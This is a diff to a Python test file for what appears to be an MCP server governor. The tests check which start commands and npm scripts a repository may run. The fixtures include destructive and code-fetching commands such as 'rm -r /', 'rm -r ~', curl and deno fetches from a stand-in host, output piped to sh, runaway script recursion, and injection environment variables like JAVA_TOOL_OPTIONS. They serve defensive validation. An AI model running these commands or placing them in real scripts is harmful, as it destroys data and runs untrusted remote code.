@@ -14,16 +14,19 @@ from mcp_governor.target.discover.own import Repository
 
 SCRIPTS = {
     "start": "node dist/index.js",
-    "dev": "npx tsx src/index.ts",
-    "nested": "npm run start",
+    "built": "npm run start && node dist/index.js",
     "hooked": "node dist/index.js",
     "prehooked": "curl https://h.example/x",
     "posted": "node dist/index.js",
     "postposted": "rm -r /",
     "piped": "node dist/index.js | sh",
     "lines": "node dist/index.js\nrm -r /",
-    "bomb": "uv run npm run bomb",
+    "home": "node dist/index.js; rm -r ~",
+    "bomb": "npm run bomb && npm run bomb",
     "set": "NODE_OPTIONS=--require=/tmp/x node dist/index.js",
+    "many": " && ".join(["node dist/index.js"] * 6),
+    **{f"deep{number}": " && ".join([f"npm run deep{number + 1}"] * 5) for number in range(40)},
+    "deep40": "node dist/index.js",
 }
 FILES = {
     "server.py": "",
@@ -37,6 +40,10 @@ FILES = {
     "package.json": json.dumps({"name": "@shop/stock", "scripts": SCRIPTS}),
     "dist/index.js": "",
     "src/index.ts": "",
+    "cmd/server/main.go": "",
+    "Cargo.toml": "",
+    "api/Api.csproj": "",
+    "target/stock.jar": "",
     "run.sh": "",
     "-c": "",
     "inspect": "",
@@ -86,18 +93,29 @@ STARTED = """
     npx -y @shop/stock@1.2.3 --stdio
     npm start
     npm run start -- --stdio
-    npm run dev
+    npm run built
+    bun run src/index.ts
     bun run start
+    deno run -A --allow-net src/index.ts
     uv run server.py
     uv run python server.py
     uv run python -m stock
     uv run stock-no-such --all
+    uv run --with mcp[cli] mcp run server.py
+    uv run --with mcp[cli]>=1.9 mcp run server.py:app -t stdio
+    uv --directory packages/one run server.py
+    uv run --directory=packages/one one-no-such
     uv run --no-project --isolated --with-editable . stock-no-such
+    uvx --from . stock-no-such
     uvx stock
     stock-no-such
     poetry run stock-no-such
     pdm run python server.py
     pipenv run python server.py
+    go run ./cmd/server
+    cargo run --release
+    dotnet run --project api
+    java -jar target/stock.jar
     ./run.sh
     ROOT/run.sh --stdio
 """
@@ -135,17 +153,21 @@ LISTED = """
     npx -c @shop/stock
     npx -y @shop/stock-other
     npx
-    npm run nested
     npm run hooked
     npm run posted
     npm run piped
     npm run lines
+    npm run home
     npm run bomb
     npm run set
+    npm run many
+    npm run deep0
     npm run start --script-shell=/tmp/x
     npm --prefix ../outside run start
     npm install
     bun x other
+    deno run https://h.example/x.ts
+    deno run --import-map=/tmp/x src/index.ts
     uv run other
     uv run rm -r /
     uv run sh -c x
@@ -155,6 +177,10 @@ LISTED = """
     uv run --python OUTSIDE/python server.py
     uv run https://h.example/x.py
     uv --directory .. run server.py
+    uv --directory packages/one run stock-no-such
+    uv run --with mcp[cli] mcp run config.json
+    uv run fastmcp run server.py --with other
+    uv run fastmcp run https://h.example/mcp
     uv tool run mcp-server-time
     uvx --from other stock
     uvx --from git+https://h.example/x stock-no-such
@@ -166,6 +192,11 @@ LISTED = """
     OUTSIDE/stock-no-such
     poetry run rm -r /
     go run h.example/x@latest
+    go run cmd/server
+    go run -exec rm ./cmd/server
+    cargo run --config x
+    dotnet run --project ../outside
+    java -cp x Main
     ../outside/python
 """
 
@@ -229,6 +260,9 @@ def test_what_is_no_command_is_listed(shop, words):
         ({"npm_config_registry": "https://h.example"}, False),
         ({"BASH_ENV": "x"}, False),
         ({"GIT_SSH_COMMAND": "x"}, False),
+        ({"GOFLAGS": "-exec=x"}, False),
+        ({"JAVA_TOOL_OPTIONS": "-javaagent:x"}, False),
+        ({"DOTNET_STARTUP_HOOKS": "x"}, False),
         ({"OPENSSL_CONF": "x"}, False),
     ],
     ids=str,
@@ -259,6 +293,11 @@ def test_an_object_is_read_by_the_python_of_the_project(tmp_path):
         python.symlink_to(program)
         assert Repository(tmp_path).may_start(Way({"object": "stock:server"}), tmp_path) is started
         python.unlink()
+
+
+def test_cargo_needs_a_package_of_the_repository(tmp_path):
+    assert not judged(tmp_path, "cargo run")
+    assert judged(write(tmp_path, {"Cargo.toml": ""}), "cargo run")
 
 
 @pytest.mark.parametrize(
